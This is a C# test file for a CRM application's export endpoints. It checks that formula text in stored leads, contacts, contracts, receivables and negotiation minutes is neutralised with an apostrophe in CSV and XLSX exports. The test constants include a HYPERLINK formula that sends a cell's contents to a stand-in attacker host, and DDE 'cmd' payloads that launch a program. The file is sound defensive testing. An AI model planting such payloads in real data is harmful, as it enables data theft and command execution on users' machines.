using System.Globalization;
using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using LeadToCash.Modules.Contracts;
using LeadToCash.Modules.Customers.Contacts;
using LeadToCash.Modules.Opportunities.Negotiations;
using LeadToCash.Modules.Receivables;
using LeadToCash.Tests.Infrastructure;
using MiniExcelLibs;

namespace LeadToCash.Tests.Security;

/// <summary>
/// Spreadsheet formula injection: text a user stored that a spreadsheet would run as a formula (= + - @) comes out of
/// every .csv and .xlsx export prefixed with an apostrophe, so Excel and WPS show it as text. (Customers and products
/// are checked in their own tests; these are the leads, contacts, contracts, receivables and negotiation minutes.)
/// </summary>
[DatabaseTest]
public sealed class ExportInjectionTests(AppFactory app) : IClassFixture<AppFactory>
{
    private const string Hyperlink = "=HYPERLINK(\"http://attacker.example/?d=\"&A1,\"点击查看\")";
    private const string Command = "+cmd|' /C calc'!A0";
    private const string Minus = "-2+3+cmd|' /C calc'!A0";
    private const string At = "@SUM(1+1)*cmd|' /C calc'!A0";

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Fact]
    public async Task ExportLeads_FormulaText_IsNeutralisedInCsvAndXlsx()
    {
        var tag = "公式线索" + Guid.NewGuid().ToString("N")[..6];
        using var rep = await app.ClientForAsync(DemoUsers.Rep);
        await (await rep.PostAsJsonAsync("/api/v1/leads", new
        {
            sourceChannel = "website-form", companyName = $"={tag}+1", contactName = At, mobile = "13900005678",
        }, Ct)).ExpectAsync(HttpStatusCode.Created);

        var (csv, xlsx) = await ExportAsync(rep, $"/api/v1/leads/export?q={Uri.EscapeDataString(tag)}");

        foreach (var rows in new[] { csv, xlsx })
        {
            var row = Assert.Single(rows);
            Assert.Equal($"'={tag}+1", row["Company"]);
            Assert.Equal("'" + At, row["Contact"]);
        }
    }

    [Fact]
    public async Task ExportContacts_FormulaText_IsNeutralisedInCsvAndXlsx()
    {
        var customer = await TestCustomers.AddOwnedCustomerAsync(app, DemoUsers.Rep, "公式联系人客户" + Guid.NewGuid().ToString("N")[..6]);
        using var rep = await app.ClientForAsync(DemoUsers.Rep);
        await (await rep.PostAsJsonAsync($"/api/v1/customers/{customer.Id}/contacts",
            new ContactRequest(Hyperlink, Title: Minus, WeChat: At), Ct)).ExpectAsync(HttpStatusCode.Created);

        var (csv, xlsx) = await ExportAsync(rep, $"/api/v1/contacts/export?customerId={customer.Id}");

        foreach (var rows in new[] { csv, xlsx })
        {
            var row = Assert.Single(rows);
            Assert.Equal("'" + Hyperlink, row["Contact"]);
            Assert.Equal("'" + Minus, row["Title"]);
            Assert.Equal("'" + At, row["WeChat"]);
        }
    }

    [Fact]
    public async Task ExportContractsAndReceivables_FormulaText_IsNeutralisedInCsvAndXlsx()
    {
        var contract = await TestContracts.AddSignedAsync(app, DemoUsers.Rep, 10_000_00, title: Hyperlink);
        using var rep = await app.ClientForAsync(DemoUsers.Rep);
        await (await rep.PutAsJsonAsync($"/api/v1/contracts/{contract.Id}/payment-plan", new PaymentPlanRequest(
            [new InstalmentRequest(Command, new DateOnly(2026, 12, 31), AmountMinor: 10_000_00)]), Http.Json, Ct)).ExpectAsync(HttpStatusCode.OK);

        var (contractsCsv, contractsXlsx) = await ExportAsync(rep, $"/api/v1/contracts/export?q={Uri.EscapeDataString(contract.Number)}");
        var (receivablesCsv, receivablesXlsx) = await ExportAsync(rep, $"/api/v1/receivables/export?customerId={contract.CustomerId}");

        foreach (var rows in new[] { contractsCsv, contractsXlsx })
        {
            Assert.Equal("'" + Hyperlink, Assert.Single(rows, r => r["Number"] == contract.Number)["Title"]);
        }

        foreach (var rows in new[] { receivablesCsv, receivablesXlsx })
        {
            var row = Assert.Single(rows);
            Assert.Equal("'" + Hyperlink, row["Title"]);
            Assert.Equal("'" + Command, row["Label"]);
        }
    }

    [Fact]
    public async Task ExportNegotiationMinutes_FormulaText_IsNeutralisedInCsvAndXlsx()
    {
        var deal = await TestNegotiations.AddOpportunityAsync(app, DemoUsers.Rep, "公式纪要商机" + Guid.NewGuid().ToString("N")[..6]);
        using var rep = await app.ClientForAsync(DemoUsers.Rep);
        await TestNegotiations.CreateMinutesAsync(rep, deal.Id, new NegotiationMinutesRequest(
            new DateTime(2026, 11, 24, 6, 0, 0, DateTimeKind.Utc), Minus, PaymentTerms: Hyperlink, Delivery: Command, NextSteps: At));

        var (csv, xlsx) = await ExportAsync(rep, $"/api/v1/opportunities/{deal.Id}/negotiations/export");

        foreach (var rows in new[] { csv, xlsx })
        {
            var row = Assert.Single(rows);
            Assert.Equal("'" + Minus, row["Attendees"]);
            Assert.Equal("'" + Hyperlink, row["PaymentTerms"]);
            Assert.Equal("'" + Command, row["Delivery"]);
            Assert.Equal("'" + At, row["NextSteps"]);
        }
    }

    /// <summary>The export as .csv and as .xlsx, each read back into rows keyed by header.</summary>
    private static async Task<(List<Dictionary<string, string>> Csv, List<Dictionary<string, string>> Xlsx)> ExportAsync(HttpClient client, string url)
    {
        var separator = url.Contains('?', StringComparison.Ordinal) ? '&' : '?';
        var csv = await (await client.GetAsync($"{url}{separator}format=csv", Ct)).ExpectAsync(HttpStatusCode.OK);
        var xlsx = await (await client.GetAsync($"{url}{separator}format=xlsx", Ct)).ExpectAsync(HttpStatusCode.OK);
        using var buffer = new MemoryStream(await xlsx.Content.ReadAsByteArrayAsync(Ct));
        var sheet = buffer.Query(useHeaderRow: true)
            .Cast<IDictionary<string, object?>>()
            .Select(r => r.ToDictionary(kv => kv.Key, kv => Convert.ToString(kv.Value, CultureInfo.InvariantCulture) ?? ""))
            .ToList();
        return (ExportFiles.ReadCsv(await csv.Content.ReadAsStringAsync(Ct)), sheet);
    }
}
